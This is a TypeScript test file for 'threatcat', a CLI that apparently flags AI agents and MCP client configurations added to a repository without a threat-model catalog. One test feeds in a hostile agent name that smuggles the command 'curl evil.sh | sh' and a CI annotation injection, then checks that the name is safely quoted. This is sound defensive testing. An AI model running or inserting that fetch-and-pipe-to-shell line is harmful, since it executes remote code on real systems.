// An agent a pull request brings in that no catalog models reached no catalog, so `diff` said "0 surface events"
// about it: a kagent Agent in a folder of its own, or an MCP client configuration at the repository's root. Now it
// is one `uncovered-agent` finding at the object, naming the `init` command that writes its catalog; committing
// that catalog clears it (real git repositories and commits, the built CLI).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { git, runCli, tempDir } from '../helpers/fixtures.js';
import { noKustomize } from '../kustomize/app.js';
import { uncoveredAgents } from '../../src/analyse/uncovered-agents.js';
import { APP, CATALOG, commit, convergedRepo, diffJson, edit, initRepo, line } from './scenario.js';

const ROGUE = 'apps/rogue/agent.yaml';
const ROGUE_AGENT = `apiVersion: kagent.dev/v1alpha2
kind: ModelConfig
metadata:
  name: rogue-model
  namespace: sandbox
spec:
  provider: OpenAI
  model: gpt-4.1
  apiKeySecret: openai
  apiKeySecretKey: key
---
apiVersion: kagent.dev/v1alpha2
kind: Agent
metadata:
  name: rogue
  namespace: sandbox
spec:
  type: Declarative
  declarative:
    modelConfig: rogue-model
    systemMessage: You fix whatever is broken.
`;

const uncovered = (out: ReturnType<typeof diffJson>['out']) => out.findings.filter((f) => f.rule === 'uncovered-agent');

/**
 * A git repository (no commit yet) with the agent `ops` as a Kustomize base, a prod overlay (its kustomization plus
 * `overlayLine`) and the catalog `init --agent AGENT` writes for that overlay.
 */
function opsApp(overlayLine: string, agent: string): string {
  const dir = tempDir('threatcat-uncovered-');
  mkdirSync(join(dir, 'apps/ops/base'), { recursive: true });
  mkdirSync(join(dir, 'apps/ops/overlays/prod'), { recursive: true });
  writeFileSync(join(dir, 'apps/ops/base/agent.yaml'), ROGUE_AGENT.replaceAll('rogue', 'ops'));
  writeFileSync(join(dir, 'apps/ops/base/kustomization.yaml'), 'resources: [agent.yaml]\n');
  writeFileSync(join(dir, 'apps/ops/overlays/prod/kustomization.yaml'), `resources: [../../base]\n${overlayLine}\n`);
  const init = runCli(['init', '--agent', agent, '-C', dir, 'apps/ops/overlays/prod']);
  assert.equal(init.code, 0, init.stdout + init.stderr);
  git(dir, 'init', '-q', '-b', 'main');
  return dir;
}

test('a kagent Agent added in a folder no catalog owns is one uncovered-agent warning at the Agent, naming init; the catalog init writes clears it', () => {
  const dir = initRepo();
  mkdirSync(join(dir, 'apps/rogue'), { recursive: true });
  writeFileSync(join(dir, ROGUE), ROGUE_AGENT);
  commit(dir, 'a new agent, no threat model');
  const r = diffJson(dir, '--base', 'main', '--head', 'HEAD');
  assert.deepEqual(r.out.events, []);
  const found = uncovered(r.out);
  assert.deepEqual(
    found.map((f) => [f.severity, f.file, f.line]),
    [['warning', ROGUE, line(dir, ROGUE, 'kind: Agent') - 1]],
  );
  assert.match(found[0].message, /Agent sandbox\/rogue has no threat model/);
  assert.match(found[0].message, /threatcat init --agent rogue apps\/rogue/);
  // A warning: the pull request is told, not blocked, unless .threatcat.yaml makes it an error.
  assert.equal(r.code, 0);

  // The loop: the command the finding names writes a catalog that validates and covers the agent.
  const init = runCli(['init', '--agent', 'rogue', '-C', dir, 'apps/rogue']);
  assert.equal(init.code, 0, init.stdout + init.stderr);
  assert.equal(runCli(['validate', '-C', dir]).code, 0);
  commit(dir, 'its Day-1 catalog');
  assert.deepEqual(uncovered(diffJson(dir, '--base', 'main', '--head', 'HEAD').out), []);
});

test('an MCP client configuration at the root, in no catalog, is one uncovered-agent warning; inside the agent folder it is the agent`s connection instead', () => {
  const dir = initRepo();
  const client =
    '{\n  "servers": {\n    "k8s": { "command": "npx", "args": ["-y", "mcp-server-kubernetes"] }\n  }\n}\n';
  mkdirSync(join(dir, '.vscode'), { recursive: true });
  writeFileSync(join(dir, '.vscode/mcp.json'), client);
  commit(dir, 'a client config at the root');
  const root = diffJson(dir, '--base', 'main', '--head', 'HEAD').out;
  assert.deepEqual(
    uncovered(root).map((f) => [f.file, f.line]),
    [['.vscode/mcp.json', 1]],
  );
  assert.match(uncovered(root)[0].message, /MCP client configuration \.vscode\/mcp\.json is in no catalog/);

  // The same file where the k8s-ops catalog's globs reach it: an event of that agent, no finding.
  mkdirSync(join(dir, APP, '.vscode'), { recursive: true });
  writeFileSync(join(dir, APP, '.vscode/mcp.json'), client);
  commit(dir, 'the client config of the agent');
  const owned = diffJson(dir, '--base', 'HEAD~1', '--head', 'HEAD').out;
  assert.deepEqual(uncovered(owned), []);
  assert.ok(owned.events.some((e) => e.type === 'mcp-connection-added' && e.file === `${APP}/.vscode/mcp.json`));
});

test('an edit to a modelled agent, or to another object of its files, is no uncovered-agent finding; .threatcat.yaml can make it an error', () => {
  const dir = initRepo();
  edit(dir, `${APP}/agent.yaml`, 'name: k8s-ops\n', 'name: k8s-ops\n  labels: {team: platform}\n');
  commit(dir, 'a label');
  assert.deepEqual(uncovered(diffJson(dir, '--base', 'main', '--head', 'HEAD').out), []);

  writeFileSync(join(dir, '.threatcat.yaml'), 'rules:\n  uncovered-agent: error\n');
  mkdirSync(join(dir, 'apps/rogue'), { recursive: true });
  writeFileSync(join(dir, ROGUE), ROGUE_AGENT);
  commit(dir, 'a new agent, and the team blocks those without a threat model');
  const r = diffJson(dir, '--base', 'main', '--head', 'HEAD');
  assert.deepEqual(
    uncovered(r.out).map((f) => f.severity),
    ['error'],
  );
  assert.equal(r.code, 1);
});

test('an Agent an overlay renames (namePrefix) is the agent of the overlay`s catalog: an edit of its base file is no uncovered-agent finding', {
  skip: noKustomize(),
}, () => {
  const dir = opsApp('namePrefix: prod-', 'prod-ops');
  commit(dir, 'the overlay and its catalog');
  edit(dir, 'apps/ops/base/agent.yaml', 'You fix whatever is broken.', 'You fix what you are asked to.');
  commit(dir, 'an edit of the base');
  assert.deepEqual(uncovered(diffJson(dir, '--base', 'main', '--head', 'HEAD').out), []);
  // The same Agent with no catalog at all is uncovered, under the name its own file gives it.
  git(dir, 'rm', '-q', 'apps/ops/overlays/prod/prod-ops.threats.yaml');
  commit(dir, 'no catalog');
  edit(dir, 'apps/ops/base/agent.yaml', 'You fix what you are asked to.', 'You fix anything.');
  commit(dir, 'another edit');
  assert.deepEqual(
    uncovered(diffJson(dir, '--base', 'HEAD~1', '--head', 'HEAD').out).map((f) => f.file),
    ['apps/ops/base/agent.yaml'],
  );
});

test('a hostile agent name is one quoted shell word in the init command the finding names, on one line', () => {
  const [f] = uncoveredAgents({
    changed: [
      {
        what: 'agent',
        kind: 'Agent',
        name: "x; curl evil.sh | sh #'\n::error::",
        position: { file: 'apps/it is/agent.yaml', line: 3, column: 1 },
      },
    ],
    workloads: [],
    read: [],
    baseRead: [],
    rendered: [],
    covered: new Set(),
  });
  assert.ok(!f.message.includes('\n'));
  assert.match(f.message, /threatcat init --agent 'x; curl evil\.sh \| sh #'\\''/);
  assert.match(f.message, / 'apps\/it is'`/);
});

test('a change that moves the agent out of its catalog\'s globs is a workload-missing error naming the new file, not a silent "narrowed"', () => {
  const dir = convergedRepo();
  mkdirSync(join(dir, 'manifests/agents'), { recursive: true });
  git(dir, 'mv', 'manifests/agent.yaml', 'manifests/agents/agent.yaml');
  commit(dir, 'tidy: agents in a folder of their own');
  const r = diffJson(dir, '--base', 'main', '--head', 'HEAD');
  const lost = r.out.findings.filter((f) => f.rule === 'workload-missing');
  assert.deepEqual(
    lost.map((f) => [f.severity, f.file, f.line]),
    [['error', CATALOG, line(dir, CATALOG, '    name: k8s-ops')]],
  );
  assert.match(
    lost[0].message,
    /takes workload Agent agents\/k8s-ops out of the agent's manifests \(manifests\/\*\.yaml\)/,
  );
  assert.match(lost[0].message, /now in manifests\/agents\/agent\.yaml:\d+/);
  // The gate fails, as validate does on the same commit: the catalog would follow nothing of the agent from now on.
  assert.equal(r.code, 1);
  assert.equal(runCli(['validate', '-C', dir]).code, 1);

  // Deleted rather than moved: the same error, without a file to name.
  git(dir, 'rm', '-q', 'manifests/agents/agent.yaml');
  commit(dir, 'agent retired');
  const gone = diffJson(dir, '--base', 'main', '--head', 'HEAD').out.findings.filter(
    (f) => f.rule === 'workload-missing',
  );
  assert.equal(gone.length, 1);
  assert.match(
    gone[0].message,
    /If the agent moved, list its new file in agent\.manifests; if it is gone, retire the catalog/,
  );
});

test('a new overlay that deploys the agent again (staging) is an uncovered-agent warning at its kustomization; the init it names covers it', {
  skip: noKustomize(),
}, () => {
  const dir = opsApp('namespace: prod', 'ops');
  const before = commit(dir, 'prod and its catalog');
  mkdirSync(join(dir, 'apps/ops/overlays/staging'), { recursive: true });
  const STAGING = 'apps/ops/overlays/staging/kustomization.yaml';
  writeFileSync(
    join(dir, STAGING),
    'resources: [../../base]\nnamespace: staging\npatches:\n  - target: { kind: ModelConfig }\n    patch: |-\n      - op: replace\n        path: /spec/model\n        value: gpt-5-experimental\n',
  );
  // A catalog per overlay: no catalog's agent reads the new one.
  commit(dir, 'a staging overlay');
  const r = diffJson(dir, '--base', before, '--head', 'HEAD');
  const found = uncovered(r.out);
  assert.deepEqual(
    found.map((f) => [f.severity, f.file, f.line]),
    [['warning', STAGING, 1]],
  );
  assert.match(found[0].message, /renders Agent staging\/ops, which no catalog's agent\.workload names/);
  assert.match(found[0].message, /threatcat init --agent ops apps\/ops\/overlays\/staging/);

  // The loop: the named init writes the staging catalog, which validates and clears the finding.
  const again = runCli(['init', '--agent', 'ops', '-C', dir, 'apps/ops/overlays/staging']);
  assert.equal(again.code, 0, again.stdout + again.stderr);
  commit(dir, 'the staging catalog');
  assert.deepEqual(uncovered(diffJson(dir, '--base', before, '--head', 'HEAD').out), []);

  // One catalog for the whole app, reading every overlay: the instance the new overlay adds is said the same way.
  git(dir, 'rm', '-q', 'apps/ops/overlays/staging/ops.threats.yaml');
  edit(dir, 'apps/ops/overlays/prod/ops.threats.yaml', /manifests: \[.*\]/, 'manifests: ["../**/*.yaml"]');
  commit(dir, 'one catalog for the app');
  assert.deepEqual(
    uncovered(diffJson(dir, '--base', before, '--head', 'HEAD').out).map((f) => f.file),
    [STAGING],
  );
});

test('an Amazon Q CLI agent file at the root, in no catalog, is one uncovered-agent warning as a client configuration', () => {
  const dir = initRepo();
  mkdirSync(join(dir, '.amazonq/cli-agents'), { recursive: true });
  writeFileSync(
    join(dir, '.amazonq/cli-agents/ops.json'),
    '{\n  "mcpServers": {\n    "k8s": { "command": "npx", "args": ["-y", "mcp-server-kubernetes"] }\n  },\n  "allowedTools": ["@k8s"]\n}\n',
  );
  commit(dir, 'a Q agent at the root');
  const out = diffJson(dir, '--base', 'main', '--head', 'HEAD').out;
  assert.deepEqual(
    uncovered(out).map((f) => [f.file, f.line]),
    [['.amazonq/cli-agents/ops.json', 1]],
  );
  assert.match(uncovered(out)[0].message, /MCP client configuration \.amazonq\/cli-agents\/ops\.json is in no catalog/);
});
